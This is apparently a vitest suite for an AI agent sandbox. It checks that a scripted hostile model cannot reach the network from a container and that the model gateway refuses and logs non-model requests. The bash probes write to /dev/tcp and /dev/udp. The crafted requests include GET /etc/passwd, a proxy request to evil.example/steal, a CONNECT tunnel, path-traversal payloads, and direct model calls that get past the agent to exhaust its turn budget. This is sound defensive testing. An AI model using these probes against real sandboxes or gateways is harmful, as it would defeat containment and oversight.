// Network: with network "none" no TCP, UDP or DNS leaves the container. The model gateway's
// socket is the only way out, and it forwards model API requests only: anything else (another
// path, another host, a tunnel) is refused, answered 403 and logged as a "gateway.refused"
// sandbox event.
import dgram from "node:dgram";
import net from "node:net";
import os from "node:os";
import { describe, expect, it } from "vitest";
import type { ChatRequest, ScriptContext, ScriptStep } from "../../src/scripted-model/scripted-model-server.js";
import { bash, describeOutcome, finish, runHostile, useHostileModelServer } from "../support/hostile-model.js";

const server = useHostileModelServer();

/** An address of this host that a container on Docker's default bridge could reach. */
function hostAddress(): string {
  const bridge = os.networkInterfaces().docker0?.find((a) => a.family === "IPv4");
  return bridge?.address ?? "172.17.0.1";
}

/** Host listeners on every interface that count whatever reaches them. */
async function startCatchers() {
  let tcpConnections = 0;
  let udpDatagrams = 0;
  const tcp = net.createServer((socket) => {
    tcpConnections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(0, "0.0.0.0", resolve));
  const udp = dgram.createSocket("udp4");
  let sentinels = 0;
  udp.on("message", (message) => (message.toString() === "sentinel" ? sentinels++ : udpDatagrams++));
  await new Promise<void>((resolve) => udp.bind(0, "0.0.0.0", resolve));
  const tcpPort = (tcp.address() as net.AddressInfo).port;
  const udpPort = udp.address().port;
  return {
    tcpPort,
    udpPort,
    counts: () => ({ tcpConnections, udpDatagrams }),
    /**
     * One connection and one datagram from the host itself, awaited until counted: once they are,
     * anything the sandbox sent earlier would have been counted too (no sleeping to prove nothing came).
     */
    sentinel: async () => {
      const before = { tcpConnections, sentinels };
      net
        .connect(tcpPort, hostAddress())
        .on("error", () => {})
        .end();
      const sender = dgram.createSocket("udp4");
      while (tcpConnections === before.tcpConnections || sentinels === before.sentinels) {
        sender.send("sentinel", udpPort, hostAddress());
        await new Promise<void>((resolve) => setImmediate(resolve));
      }
      sender.close();
    },
    close: async () => {
      udp.close();
      await new Promise<void>((resolve) => tcp.close(() => resolve()));
    },
  };
}

describe.concurrent("network", () => {
  it('with network "none" no TCP, UDP or DNS leaves the container', async () => {
    const catchers = await startCatchers();
    try {
      const host = hostAddress();
      const outcome = await runHostile(server, [
        bash(
          [
            `timeout 5 bash -c 'echo hi > /dev/tcp/${host}/${catchers.tcpPort}' 2>/dev/null; echo "tcp-host=$?"`,
            `timeout 5 bash -c 'echo hi > /dev/tcp/1.1.1.1/443' 2>/dev/null; echo "tcp-internet=$?"`,
            `timeout 5 bash -c 'echo hi > /dev/udp/${host}/${catchers.udpPort}' 2>/dev/null; echo "udp-host=$?"`,
            `timeout 5 bash -c 'echo hi > /dev/udp/8.8.8.8/53' 2>/dev/null; echo "udp-dns=$?"`,
            'timeout 5 getent hosts example.com >/dev/null; echo "dns=$?"',
            'echo "interfaces=$(ls /sys/class/net | tr "\\n" " ")"',
            // ... and yet `localhost` resolves, and a server on it answers (review, session 29: an
            // empty /etc/hosts failed vitest, Vite and every dev server with EAI_AGAIN).
            `node -e "require('http').createServer((q,s)=>s.end('local-ok')).listen(3999,'localhost',()=>fetch('http://localhost:3999').then(r=>r.text()).then(t=>{console.log('localhost='+t);process.exit(0)}))" 2>&1 | head -3`,
          ].join("\n"),
        ),
        finish(),
      ]);
      expect(outcome.details, describeOutcome(outcome)).toBeDefined();
      const printed = outcome.toolResults[0] ?? "";
      for (const probe of ["tcp-host", "tcp-internet", "udp-host", "udp-dns", "dns"]) {
        expect(printed, probe).toMatch(new RegExp(`^${probe}=[1-9]`, "m"));
      }
      expect(printed).toMatch(/^interfaces=lo\s*$/m);
      expect(printed).toMatch(/^localhost=local-ok$/m);
      // Nothing arrived at the host, on any interface: only the host's own sentinel connection.
      await catchers.sentinel();
      expect(catchers.counts()).toEqual({ tcpConnections: 1, udpDatagrams: 0 });
    } finally {
      await catchers.close();
    }
  });

  it("the gateway refuses every non-model request (other paths, other hosts, tunnels) and logs gateway.refused", async () => {
    const attempts: Record<string, string> = {
      "unknown-route": "GET /etc/passwd HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n",
      "other-path":
        "POST /scripted/files HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
      "other-host": "GET http://evil.example/steal HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n",
      tunnel: "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n",
      traversal:
        "POST /scripted/chat/completions/../../../admin HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
      "encoded-traversal":
        "POST /scripted/%2e%2e/%2e%2e/admin HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
      upgrade:
        "GET /scripted/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n",
    };
    const script = [
      'probe() { exec 3<>/dev/tcp/127.0.0.1/18080 || { echo "$1=connect-failed"; return; }; printf "%b" "$2" >&3; echo "$1=$(timeout 5 head -1 <&3 | tr -d "\\r")"; exec 3<&- 3>&-; }',
      ...Object.entries(attempts).map(([name, request]) => `probe ${name} '${request}'`),
    ].join("\n");
    const outcome = await runHostile(server, [bash(script), finish()]);
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    const printed = outcome.toolResults[0] ?? "";
    for (const name of Object.keys(attempts)) expect(printed, name).toMatch(new RegExp(`^${name}=HTTP/1.1 403`, "m"));
    const refused = outcome.events.filter((e) => e.type === "gateway.refused");
    expect(refused.length).toBe(Object.keys(attempts).length);
    for (const event of refused) expect(event.source).toBe("sandbox");
    expect(refused.map((e) => e.data.path)).toEqual(expect.arrayContaining(["/etc/passwd", "/scripted/files"]));
    expect(refused.map((e) => e.data.method)).toContain("CONNECT");
    // Only Pi's own two model calls reached the upstream.
    expect(outcome.requests.map((r) => r.path)).toEqual(["/v1/chat/completions", "/v1/chat/completions"]);
  });

  it("model calls that bypass Pi count against the turn budget at the gateway: the one past it never reaches the upstream", async () => {
    // Code in the sandbox calls the gateway itself, with the run's model (any other is refused).
    const script = (model: string) =>
      [
        `body='${JSON.stringify({ model, messages: [{ role: "user", content: "spend" }] })}'`,
        "for i in 1 2 3 4 5 6; do",
        "  exec 3<>/dev/tcp/127.0.0.1/18080",
        '  printf "POST /scripted/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/json\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n%s" "${#body}" "$body" >&3',
        '  echo "call$i=$(timeout 5 head -1 <&3 | tr -d "\\r")"; exec 3<&- 3>&-',
        "done",
      ].join("\n");
    const before = server.requests.length;
    const outcome = await runHostile(
      server,
      (_request: ChatRequest, turn: number, context: ScriptContext): ScriptStep =>
        turn === 0 ? bash(script(context.conversation.model)) : finish(),
      { maxTurns: 3 },
    );
    expect(outcome.error?.code, describeOutcome(outcome)).toBe("limit");
    expect(outcome.error?.limit).toBe("turns");
    expect(outcome.error?.shortMessage).toBe("The sandbox asked for model response 4, over the budget of 3 turns.");
    // Pi's first turn plus two direct calls got answers; the third direct call was refused.
    const direct = server.requests.slice(before).filter((r) => r.body.messages?.[0]?.content === "spend");
    expect(direct).toHaveLength(2);
    expect(outcome.requests.length - direct.length).toBe(1);
    // The loop may get another call in before the container is gone: the first past the budget
    // stops the run, and each after it is refused as the run having stopped.
    const refused = outcome.events.filter((e) => e.type === "gateway.refused");
    expect(refused.length).toBeGreaterThanOrEqual(1);
    expect(refused[0]!.data).toMatchObject({ status: 429, reason: "turn-budget" });
    for (const event of refused) expect(["turn-budget", "run-stopped"]).toContain(event.data.reason);
  });
});
